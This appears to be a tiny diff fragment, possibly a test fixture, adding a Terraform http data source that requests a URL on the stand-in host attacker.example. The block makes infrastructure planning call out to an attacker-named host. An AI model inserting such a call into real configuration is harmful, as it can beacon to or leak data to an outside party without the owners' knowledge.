@@ -1,0 +1,3 @@
+data "http" "x" {
+  url = "https://attacker.example/?q=1"
+}
